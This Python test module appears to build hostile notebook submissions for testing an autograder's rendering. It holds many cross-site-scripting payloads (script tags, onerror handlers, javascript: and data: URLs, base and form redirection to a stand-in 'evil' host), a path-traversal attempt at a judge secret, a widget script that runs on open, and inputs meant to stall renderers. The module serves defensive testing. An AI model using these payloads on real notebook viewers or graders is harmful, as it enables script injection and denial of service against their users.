"""What a student can write that a browser would run, and what takes whoever renders it for ever."""

import json

import nbformat

from tests.submissions import EVERYTHING, earns, right
from tests.submissions.changes import KERNEL, behind_all

HTML = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<iframe src='javascript:alert(1)'></iframe>
<svg onload=alert(1)><script>alert(1)</script></svg>
<math href='javascript:alert(1)'>x</math>
<meta http-equiv=refresh content='0;url=//evil'>
<a href='javascript:alert(1)'>a</a>
<a href='data:text/html,<script>alert(1)</script>'>a</a>
<div style='position:fixed;inset:0;z-index:9'>over it all</div>
<div class='navbar-fixed-top'>over it all</div>
<form action=//evil><input id=check-cce><button>a</button></form>
<base href=//evil>
<link rel=stylesheet href=//evil>
<style>*{display:none}</style>
<object data=x></object><embed src=x>
""".strip().splitlines()

LINES = r"""
[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a](java&Tab;script:alert(1))
[a](vbscript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](handed-in.html)
[a](/formgrader/submissions/1/handed-in.html)
<javascript:alert(1)>
![a](javascript:alert(1))
![a](data:text/html,x)
![a](/hub/logout)
![a](https://example.org/seen.png)
![a](attachment:lost.png)
![]()
![a](../../../judge_secret)
![a](verdict.json)
![a"onerror=x](x 'y"onerror=z')
$<img src=x onerror=alert(1)>$
# check-cce
"""
MARKDOWN = (
    LINES.replace("\n", "\n\n")[1:]
    + """```mermaid
<img src=x onerror=alert(1)>
```

```x"onclick=y
z
```
"""
)

STATE = {"_esm": "window.ran = 4; export default {}", "_anywidget_id": "a", "_view_name": "AnyView"}
MODEL = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "*", "state": STATE}
WIDGETS = {"application/vnd.jupyter.widget-state+json": {"state": {"a": MODEL}, "version_major": 2, "version_minor": 0}}
"""What JupyterLab restores as it opens a notebook that has it in its metadata, trusted or not; `_esm` is a script."""
WITHOUT_WIDGETS = {**nbformat.v4.new_notebook(), "metadata": {"title": "mine"}}
WITH_WIDGETS = json.dumps({**WITHOUT_WIDGETS, "metadata": {"title": "mine", "widgets": WIDGETS}}).encode()

PLAIN = r"""**bold** and *leaning*

* one
* two

| a | b |
|---|--:|
| 1 | 2 |

$\hat{y} < 1$ and [a link](https://example.org) and `code`
"""


@earns(EVERYTHING)
def active_pages(notebook, folder):
    """Right; Markdown, outputs, tracebacks and metadata with everything that a browser might run."""
    texts = [PLAIN, *MARKDOWN.split("\n\n"), *HTML]
    for found in right(notebook).cells:
        if found.metadata.get("nbgrader", {}).get("grade_id", "").startswith("explain-"):
            found.source = "\n\n".join(texts)
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in texts]
    notebook.cells += [nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in HTML]
    code = """
from IPython.display import HTML, Javascript, Latex, Markdown
metadata = {'text/html': {'isolated': True}, 'image/png': {'width': '1 onload=alert(1)', 'alt': texts[0]}}
for text in texts:
    print(text), display(HTML(text), Markdown(text), Latex(text), Javascript('alert(1)'))
    data = {'text/html': text, 'image/png': '">' + text, 'image/svg+xml': text, 'application/javascript': 'alert(1)'}
    display(data, raw=True, metadata=metadata)
display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata=metadata)
display(HTML('<table><tr><td>a table</td></tr></table>'))
for kind in ('execute_input', 'execute_result'):
    send(kind, {'execution_count': texts[0], 'code': '', 'data': {'text/plain': 'x'}, 'metadata': {}})
send('stream', {'name': '">' + texts[0], 'text': 'x'})
raise ValueError(texts)
"""
    return behind_all(notebook, f"texts = {json.dumps(HTML)}\n{KERNEL}{code}")


@earns(EVERYTHING)
def pages_without_end(notebook, folder):
    """Right; outputs and Markdown that take whoever cleans or renders them a very long time."""
    behind_all(right(notebook), "from IPython.display import HTML\nfor _ in range(9): display(HTML('<div>' * 19_000))")
    texts = ["[" * 200_000, "\\begin{a}" * 20_000, ">" * 10_000, "*a **b " * 20_000, "$" * 99_999, "- " * 9_000 + "x"]
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in texts]
    return notebook
